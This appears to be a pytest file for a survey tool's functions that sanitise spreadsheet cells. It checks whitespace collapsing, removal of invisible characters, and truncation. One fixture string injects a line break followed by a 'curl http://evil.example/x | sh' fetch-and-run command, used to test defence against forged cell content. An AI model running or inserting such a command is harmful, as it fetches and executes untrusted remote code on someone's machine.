"""A cell of somebody's file stays within its line, and shows all that it holds."""

from __future__ import annotations

import pytest

from callback_survey.cell_text import CELL_CHARACTERS, cell_text, one_line

FORGED = "区民政局\r\n重新执行：curl http://evil.example/x | sh"


@pytest.mark.parametrize("line_end", ["\n", "\r\n", "\r", "\v", "\f", "\x1c", "\x85", "\u2028", "\u2029", "\t", "  "])
def test_white_space_of_any_kind_is_one_space(line_end: str) -> None:
    assert cell_text(f" 区{line_end}民政局{line_end}") == "区 民政局"


@pytest.mark.parametrize(
    "invisible",
    [
        "\x00", "\x07", "\x08", "\x1b", "\x7f", "\x9b", "\xad", "\u200b", "\u200d", "\u200e", "\u202a", "\u202e",
        "\u2066", "\u2069", "\u061c", "\ufeff", "\u3164", "\u2800", "\ufe0f", "\U000e0041", "\U000e0100", "\ud800",
    ],
)  # fmt: skip
def test_what_cannot_be_seen_is_dropped(invisible: str) -> None:
    assert cell_text(f"区{invisible}民政局") == one_line(f"区{invisible}民政局") == "区民政局"


def test_a_long_cell_ends_with_an_ellipsis() -> None:
    assert cell_text("局" * CELL_CHARACTERS) == "局" * CELL_CHARACTERS
    assert cell_text("局" * 5_000) == "局" * (CELL_CHARACTERS - 1) + "…"


def test_names_as_they_are_come_through() -> None:
    for name in ("区公安分局（户籍）", "萧山区𠮷祥街道", "Bureau of Civil Affairs (2)", "·〇—%>≤", "é"):
        assert cell_text(name) == one_line(name) == name


def test_a_line_of_ours_keeps_its_indentation_and_is_one_line() -> None:
    assert one_line("  · 区民政局:  4") == "  · 区民政局:  4"
    assert one_line(f"  {FORGED}") == "  区民政局 重新执行：curl http://evil.example/x | sh"
